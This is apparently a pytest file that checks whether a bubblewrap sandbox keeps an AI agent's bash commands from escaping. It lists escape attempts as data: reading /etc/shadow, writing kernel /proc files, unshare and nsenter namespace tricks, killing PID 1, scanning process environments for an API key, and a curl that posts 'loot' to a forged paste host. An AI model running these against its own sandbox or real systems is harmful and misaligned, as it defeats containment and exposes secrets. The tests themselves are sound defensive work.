"""From within a cell nothing gets out: each attempt works outside, and fails inside.

Every attempt is a command of the agent's own shell tool, in a world as an episode has it.
"""

import os
import shlex
import socket
import subprocess
from collections.abc import Iterator
from pathlib import Path

import anyio
import pytest

from agent.lab.isolation.levels import Level
from agent.lab.settings.post_office import PostOffice
from agent.lab.settings.world import World, make_world
from agent.vocabulary.messages import ToolResult

pytestmark = [pytest.mark.usefixtures("isolating"), pytest.mark.anyio]


@pytest.fixture
def anyio_backend() -> str:
    """One backend is enough to find a hole; `test_cells` runs commands on both."""
    return "asyncio"


@pytest.fixture
def office() -> Iterator[PostOffice]:
    with PostOffice() as office:
        yield office


async def command(world: World, text: str) -> ToolResult:
    bash = next(tool for tool in world.tools() if tool.name == "bash")
    return await bash.run({"command": text})


@pytest.mark.parametrize(("level", "escapes"), [("none", True), ("bubblewrap", False)])
async def test_attacks_that_work_on_the_machine_fail_in_a_cell(level: Level, escapes: bool, tmp_path: Path) -> None:
    outside, checked, mark = tmp_path / "outside", tmp_path / "checked", int.from_bytes(os.urandom(6))
    with (
        subprocess.Popen(["sleep", f"60.{mark}"]) as bystander,
        socket.create_server(("127.0.0.1", 0)) as server,
        make_world({}, folder=tmp_path, isolation=level) as world,
    ):
        await command(world, f"echo x > {outside}; echo x > ../beside; echo x > ~/.curlrc; echo x > here")
        world.execute(f"open({str(checked)!r}, 'w')")
        connected = await command(world, f"exec 3<>/dev/tcp/127.0.0.1/{server.getsockname()[1]} && echo connected")
        seen = await command(world, f"grep -lsaE '^sleep.60[.]{mark}' /proc/[0-9]*/cmdline | wc -l")
        await command(world, f"kill -KILL {bystander.pid}")
        written = [outside, checked, world.folder.parent / "beside", world.home / ".curlrc"]
        done = [*(path.exists() for path in written), "connected" in connected.text, seen.text.strip() != "0"]
        with anyio.move_on_after(100 if escapes else 0.2):
            while bystander.poll() is None:
                await anyio.sleep(0.01)
        done.append(bystander.poll() is not None)
        bystander.kill()

        assert done == [escapes] * 7
        assert world.text("here") == "x\n"


ATTEMPTS = (
    ": >> /proc/sys/kernel/core_pattern",  # opened, not written
    ": >> /proc/sysrq-trigger",
    ": > /usr/bpagent-was-here",
    "cat /etc/shadow",
    "ls /sys/kernel",
    "ls /run/dbus",
    "ls /var/lib",
    "ls /proc/1/root/home/*",
    "mount -t tmpfs none /tmp",
    "unshare --user --map-root-user --mount sh -c 'mount -o remount,bind,rw / && : > /bpagent-was-here'",
    "unshare -U --map-root-user --mount --pid --fork sh -c 'mount -t proc none /proc && : >> /proc/sys/vm/swappiness'",
    "nsenter --target 1 --net true",
    "mknod disk b 254 0",
    "ip link add dummy0 type dummy",
    "true # so that one of them works",
)


async def test_an_episode_neither_changes_nor_reads_the_machine_or_the_experiment(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-not-to-be-seen")
    tries = "\n".join(f"if {attempt}\nthen echo worked {n}; fi" for n, attempt in enumerate(ATTEMPTS))
    with make_world({}, folder=tmp_path, isolation="bubblewrap") as world:
        result = await command(world, tries)
        looked = await command(world, "cat /proc/[0-9]*/environ | tr '\\0' '\\n'; ls -l /proc/self/fd")
        told = await command(world, "grep -E 'CapInh|CapPrm|CapEff|CapAmb' /proc/self/status; cat /proc/mounts")

    worked = [ATTEMPTS[int(line.split()[1])] for line in result.text.splitlines() if line.startswith("worked ")]
    assert worked == [ATTEMPTS[-1]]
    assert [secret for secret in ("sk-not-to-be-seen", "socket:", "ns:[") if secret in looked.text] == []
    lines = told.text.splitlines()
    assert [line.split()[1] for line in lines if line.startswith("Cap")] == ["0" * 16] * 4
    mounts = [line.split()[3].split(",") for line in lines if not line.startswith("Cap")]
    assert len(mounts) > 5
    assert all("nosuid" in options for options in mounts)


async def test_hosts_are_reached_inside_by_any_program_and_mail_is_for_the_box_of_the_cell(
    tmp_path: Path, office: PostOffice
) -> None:
    pages = {"registry.internal/tool": b"the tool"}
    with (
        make_world({}, office=office, pages=pages, folder=tmp_path, isolation="bubblewrap") as one,
        make_world({}, office=office, folder=tmp_path, isolation="bubblewrap") as other,
    ):
        fetched = await command(one, "curl -s http://registry.internal/tool")
        assert other.box is not None
        forged = f"-H 'X-Mailbox: {other.box.name}' -H 'Host: paste.example'"
        await command(one, f"curl -q -s {forged} -d loot http://127.0.0.1:8025/new")
        send = "from urllib.request import urlopen; urlopen('http://127.0.0.1:8025/raw', b'more').read()"
        await command(other, f"python3 -c {shlex.quote(send)}")
        seen = await command(other, f"ls {one.folder} && echo it worked")

        assert fetched.text.startswith("the tool")
        assert "it worked" not in seen.text
        assert [parcel.body for parcel in one.received("paste.example")] == [b"loot"]
        assert [(parcel.path, parcel.body) for parcel in other.received("127.0.0.1")] == [("/raw", b"more")]


async def test_a_command_that_ends_its_cell_fails_and_nothing_runs_outside(tmp_path: Path) -> None:
    with make_world({}, folder=tmp_path, isolation="bubblewrap") as world:
        await command(world, "kill -KILL 1; kill -KILL 2; sleep 5")
        after = await command(world, "touch here; echo it worked")

        assert "it worked" not in after.text
        assert not world.has("here")


@pytest.mark.slow
async def test_a_command_inside_is_ended_when_its_time_is_up(tmp_path: Path) -> None:
    with make_world({}, folder=tmp_path, isolation="bubblewrap") as world:
        bash = next(tool for tool in world.tools() if tool.name == "bash")
        result = await bash.run({"command": "setsid sleep 50 & echo begun; sleep 50", "timeout": 1})
        with anyio.fail_after(100):  # a killed process is counted until it has been waited for
            while (await command(world, "pgrep -c sleep")).text.splitlines()[0] != "0":
                await anyio.sleep(0.1)

    assert "begun" in result.text
    assert "timed out" in result.text
